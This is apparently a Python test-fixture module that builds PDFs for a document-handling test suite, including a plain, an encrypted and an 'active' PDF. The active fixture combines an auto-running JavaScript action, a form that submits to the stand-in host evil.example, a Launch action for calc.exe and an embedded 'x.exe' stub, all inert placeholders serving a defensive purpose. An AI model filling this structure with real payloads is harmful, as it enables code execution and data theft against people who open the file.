"""PDFs made on the spot: plain ones, and those that one would rather not pass on."""

from functools import cache
from io import BytesIO


@cache
def plain_pdf(pages: int = 3) -> bytes:
    """Each page a third blue, and told apart by how far down the blue goes."""
    import pypdfium2
    from pypdfium2 import raw

    document = pypdfium2.PdfDocument.new()
    for number in range(1, pages + 1):
        page = document.new_page(300, 400)
        field = raw.FPDFPageObj_CreateNewRect(0, 0, 100, 40 * number)
        raw.FPDFPageObj_SetFillColor(field, 0, 0, 255, 255)
        raw.FPDFPath_SetDrawMode(field, raw.FPDF_FILLMODE_ALTERNATE, False)
        raw.FPDFPage_InsertObject(page, field)
        page.gen_content()
    told = BytesIO()
    document.save(told)
    return told.getvalue()


def assembled(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    data, places = b"%PDF-1.7\n", []
    for number, words in enumerate(objects, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, words)
    index = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    data += b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(places) + 1
    return data + b"trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF" % (size, trailer, index)


def active_pdf() -> bytes:
    """A script that begins by itself, a program to start, a form that is sent away, and a file inside."""
    return assembled(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AcroForm<</Fields[5 0 R]>>"
        b"/Names<</JavaScript<</Names[(a)4 0 R]>>/EmbeddedFiles<</Names[(x.exe)7 0 R]>>>>>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Annots[5 0 R 6 0 R]/AA<</O 4 0 R>>>>",
        b"<</S/JavaScript/JS(app.alert\\('stolen'\\))>>",
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/Rect[9 9 99 99]"
        b"/A<</S/SubmitForm/F(https://evil.example)>>>>",
        b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(calc.exe)>>>>",
        b"<</Type/Filespec/F(x.exe)/EF<</F 8 0 R>>>>",
        b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream",
    )


def locked_pdf() -> bytes:
    """Encrypted with a password that nobody told."""
    return assembled(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 0/Kids[]>>",
        b"<</Filter/Standard/V 1/R 2/P -4/O<%b>/U<%b>>>" % (b"28" * 32, b"29" * 32),
        trailer=b"/Encrypt 3 0 R/ID[<00><00>]",
    )


def page_of(width: int, height: int, count: int = 1) -> bytes:
    return assembled(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %d/Kids[%b]>>" % (count, b"3 0 R " * count),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 %d %d]>>" % (width, height),
    )
